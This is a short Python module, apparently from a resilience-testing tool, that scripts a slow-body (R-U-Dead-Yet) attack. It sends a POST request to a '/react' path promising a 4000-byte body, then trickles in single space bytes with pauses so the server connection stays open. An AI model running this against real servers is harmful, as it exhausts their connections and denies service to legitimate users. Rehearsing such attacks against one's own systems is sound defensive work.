"""Slow bodies (R-U-Dead-Yet): a length is promised, and comes a byte at a time."""

from __future__ import annotations

from collections.abc import Iterator

from rostra.rehearsal.attacks.steps import Aim, Pause, Send, Step

PROMISED_BYTES = 4000
"""What an edge takes as a body, nearly."""


def script(aim: Aim, number: int) -> Iterator[Step]:
    yield Send(aim.post(f"{aim.target.path}/react", bytes(PROMISED_BYTES))[:-PROMISED_BYTES] + b"{")
    for _ in range(PROMISED_BYTES - 2):
        yield Pause(aim.plan.pause_s)
        yield Send(b" ")
